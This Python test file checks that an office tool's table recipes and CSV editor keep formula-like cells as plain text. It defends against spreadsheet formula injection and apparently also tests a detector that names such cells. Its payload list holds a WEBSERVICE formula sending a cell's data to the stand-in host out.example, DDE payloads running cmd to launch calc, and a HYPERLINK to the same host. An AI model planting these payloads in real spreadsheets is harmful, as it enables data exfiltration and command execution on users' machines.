"""What a stranger's table holds is copied as the text that it is: no Recipe makes a formula of it (D08)."""

import zipfile

import openpyxl
import pytest

from tests.skills.office import book, only_made

SINK = '=WEBSERVICE("http://out.example/?"&A1)'
EVIL = (SINK, "=cmd|'/c calc'!A0", "+1+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1)", "\t=1+1", '＝IMAGE("x")',
        '=HYPERLINK("http://out.example","x")')  # fmt: skip


def evil_csv() -> str:
    rows = "".join(f'x{number},"{text.replace(chr(34), chr(34) * 2)}",{number}\n' for number, text in enumerate(EVIL))
    return f"name,note,amount\n{rows}"


def formulas(path) -> list[str]:
    """Every formula in the sheets of a workbook, as it is written there."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist() if "worksheets/" in name and b"<f>" in archive.read(name)]


def texts(path) -> set[str]:
    sheets = openpyxl.load_workbook(path).worksheets
    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return {cell.value for cell in cells if isinstance(cell.value, str)}


@pytest.mark.parametrize("recipe", ["tables:combine", "tables:clean"])
def test_a_cell_that_begins_like_a_formula_stays_a_text(office, recipe):
    office.put("evil.csv", evil_csv())
    more = {"file": "evil.csv"} if recipe == "tables:clean" else {}
    path = only_made(office.run(recipe, **more))
    assert formulas(path) == []
    assert {SINK, "=cmd|'/c calc'!A0"} <= texts(path)
    assert office.documents.reaches(path) == ()


def test_a_text_of_a_workbook_that_looks_like_a_formula_stays_a_text(office):
    made = openpyxl.Workbook()
    made["Sheet"].append(["name", "note"])
    made["Sheet"].append(["x", None])
    made["Sheet"]["B2"].value = SINK
    made["Sheet"]["B2"].data_type = "s"
    made.save(office.root / "evil.xlsx")
    office.put("plain.xlsx", book({"A": [["name", "note"], ["y", "z"]]}))
    path = only_made(office.run("tables:combine"))
    assert SINK in texts(path)
    assert office.documents.reaches(path) == ()


def test_a_file_whose_name_is_a_formula_is_listed_as_a_text(office):
    office.put("=HYPERLINK(1).txt")
    result = office.run("reports:inventory", document="false")
    path = only_made(result)
    assert formulas(path) == []
    assert "=HYPERLINK(1).txt" in texts(path)


def test_a_csv_that_is_edited_keeps_such_cells_byte_for_byte_and_they_are_named(office, tmp_path):
    file = office.put("evil.csv", evil_csv())
    target = tmp_path / "edited.csv"
    office.documents.edit(file, [{"op": "append_rows", "rows": [["new", "row", 1]]}], target)
    assert target.read_bytes().startswith(file.read_bytes())
    named = {one.anchor: one.how for one in office.documents.reaches(target)}
    assert named["B2"] == "text formula WEBSERVICE computed"
    assert named["B3"] == "text dde"
    assert office.documents.reaches(file) == office.documents.reaches(target)
